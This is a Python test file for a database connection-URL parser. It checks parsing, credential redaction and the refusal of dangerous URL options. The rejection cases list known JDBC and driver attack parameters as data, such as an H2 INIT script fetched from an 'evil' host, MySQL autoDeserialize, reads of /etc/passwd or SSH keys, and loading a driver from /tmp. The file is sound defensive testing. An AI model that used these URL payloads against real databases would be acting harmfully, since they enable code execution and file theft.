"""URLs of all kinds of databases, and what of them is refused."""

import re

import pytest

from airflow_provider_connect.connectors.jdbc.database.database_url import DatabaseUrl, parse_url
from airflow_provider_connect.errors import ConfigException

DATABASES = {
    "jdbc:postgresql://db:6543/shop": DatabaseUrl("postgresql", "db", 6543, "shop"),
    "jdbc:postgresql://db/shop?user=ann&password=s%26x&ApplicationName=etl&prepareThreshold=0": DatabaseUrl(
        "postgresql", "db", 5432, "shop", "ann", "s&x", {"application_name": "etl"}
    ),
    "jdbc:postgresql://a:1,b:2/shop?targetServerType=any": DatabaseUrl("postgresql", "a:1,b:2", None, "shop"),
    "jdbc:postgresql:shop": DatabaseUrl("postgresql", "localhost", 5432, "shop"),
    "jdbc:postgresql://[::1]:5433/shop?ssl=true": DatabaseUrl("postgresql", "[::1]", 5433, "shop", options={"sslmode": "verify-full"}),
    "postgres://ann:p%40ss@db/shop": DatabaseUrl("postgresql", "db", 5432, "shop", "ann", "p@ss"),
    "postgresql+psycopg2://ann@db/shop?sslmode=require": DatabaseUrl(
        "postgresql", "db", 5432, "shop", "ann", options={"sslmode": "require"}
    ),
    "jdbc:postgresql://db/shop?currentSchema=my_app": DatabaseUrl("postgresql", "db", 5432, "shop", schema="my_app"),
    "jdbc:sqlite:/var/lib/app.db": DatabaseUrl("sqlite", database="/var/lib/app.db"),
    "sqlite:////var/lib/app.db": DatabaseUrl("sqlite", database="/var/lib/app.db"),
    "sqlite:///app.db?mode=ro": DatabaseUrl("sqlite", database="app.db", options={"mode": "ro"}),
    "sqlite://%2Fvar%2Flib%2Fapp.db": DatabaseUrl("sqlite", database="/var/lib/app.db"),
    "jdbc:mysql://db/shop?useSSL=false&serverTimezone=UTC&allowLoadLocalInfile=false": DatabaseUrl("mysql", "db", 3306, "shop"),
    "jdbc:mariadb://db:3307/shop?sslMode=REQUIRED": DatabaseUrl("mariadb", "db", 3307, "shop", options={"ssl_check_hostname": "true"}),
    "mysql+pymysql://ann:x@db/shop?charset=utf8mb4": DatabaseUrl(
        "mysql", "db", 3306, "shop", "ann", "x", {"charset": "utf8mb4"}, driver="pymysql"
    ),
}


@pytest.mark.parametrize("text", DATABASES)
def test_url_is_read(text: str) -> None:
    assert parse_url(text) == DATABASES[text]


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", ("INIT", "run code")),
        ("jdbc:h2:mem:x", ("h2", "without Java")),
        ("jdbc:mysql://db/x?allowLoadLocalInfile=true", ("allowLoadLocalInfile", "read files")),
        ("jdbc:mysql://db/x?allowUrlInLocalInfile=yes", ("allowUrlInLocalInfile", "read files")),
        ("jdbc:mysql://db/x?autoDeserialize=true&queryInterceptors=a.B", ("autoDeserialize", "run code")),
        ("jdbc:mysql://db/x?%61utoDeserialize=true", ("autoDeserialize", "run code")),
        ("mysql+pymysql://db/x?read_default_file=/etc/passwd", ("read_default_file", "read files")),
        ("mysql+pymysql://db/x?init_command=DROP+TABLE+t", ("init_command", "run code")),
        ("jdbc:mariadb://db/x?sessionVariables=sql_mode=''", ("sessionVariables", "run code")),
        ("jdbc:postgresql://db/x?socketFactory=a.B&socketFactoryArg=http://evil", ("socketFactory", "run code")),
        ("jdbc:postgresql://db/x?loggerFile=/tmp/x", ("loggerFile", "read files")),
        ("postgresql://db/x?sslkey=/root/.ssh/id_rsa", ("sslkey", "read files", "PGSSLROOTCERT")),
        ("postgresql://db/x?service=prod", ("service", "read files")),
        ("postgresql://db/x?options=-csession_preload_libraries=x", ("options", "run code")),
        ("postgresql://db/x?plugin=evil", ("plugin", "run code")),
        ("jdbc:sqlite:/tmp/x.db?enable_load_extension=true", ("enable_load_extension", "run code")),
        ("jdbc:sqlite::memory:", ("in memory",)),
        ("jdbc:sqlite::resource:http://evil/x.db", ("plain path",)),
        ("sqlite:///file:x.db", ("plain path",)),
        ("mssql+pyodbc://db/x?driver=/tmp/evil.so", ("driver", "run code")),
        ("mysql+evil://db/x", ("evil", "not known")),
        ("jdbc:postgresql://db:port/x", ("port", "number")),
        ("jdbc:postgresql://db/x?nonsense=1", ("nonsense", "Known are", "sslmode")),
        ("jdbc:mysql://db/x?sslMode=VERIFY_IDENTITY", ("sslmode", "Known are")),
        ("db.example.com/x", ("no database URL",)),
        ("jdbc:", ("missing behind jdbc:",)),
    ],
)
def test_url_is_refused_with_key_and_reason(text: str, words: tuple[str, ...]) -> None:
    with pytest.raises(ConfigException, match=r"connection\.url") as refused:
        parse_url(text)
    assert [word for word in words if word not in refused.value.message] == []


def test_password_is_in_no_text_but_that_for_the_driver() -> None:
    url = parse_url("postgresql://ann:topsecret@db/shop")
    assert "topsecret" not in f"{url!r} {url.address}"
    assert url.adbc_uri == "postgresql://ann:topsecret@db:5432/shop"
    with pytest.raises(ConfigException) as refused:
        parse_url("postgresql://ann:topsecret@db/shop?service=x")
    assert "topsecret" not in refused.value.message


@pytest.mark.parametrize(
    "rest",
    [
        "ann:half@topsecret@db/shop",
        "ann:topsecret/half@db/shop",
        "ann:half:topsecret/@db/shop",
        "ann:half@topsecret@half@db/shop",
        "ann:half/@topsecret@db/shop",
        "ann:1234/topsecret@db/shop",
        "db/shop?user=ann&password=half&topsecret",
        "db/shop?user=ann&password=half&topsecret=half",
        "ann:1234/?topsecret&half@db/shop",
        "db;user=ann;password=topsecret",
        "db/shop;user=ann;password=topsecret",
    ],
)
@pytest.mark.parametrize("scheme", ["postgresql", "jdbc:mariadb", "mysql+pymysql"])
def test_password_that_was_not_encoded_is_not_shown(scheme: str, rest: str) -> None:
    with pytest.raises(ConfigException, match=r"connection\.url.*%40") as refused:
        parse_url(f"{scheme}://{rest}")
    assert not {"topsecret", "half", "1234"} & set(re.findall(r"\w+", refused.value.message))


def test_drivers_get_urls_in_their_own_form() -> None:
    url = parse_url("jdbc:postgresql://db/my shop?currentSchema=a b").with_credentials("an:n", "p/w")
    assert url.adbc_uri == "postgresql://an%3An:p%2Fw@db:5432/my%20shop?options=-csearch_path%3Da%5C%20b"
    assert parse_url("jdbc:mariadb://db/x").with_credentials("u", "p").sqlalchemy_url == "mariadb+pymysql://u:p@db:3306/x"
    assert parse_url("jdbc:sqlite:/a b.db").existing.adbc_uri == "file:/a%20b.db?mode=rw"
    assert parse_url("jdbc:sqlite:/a.db").sqlalchemy_url == "sqlite:////a.db"
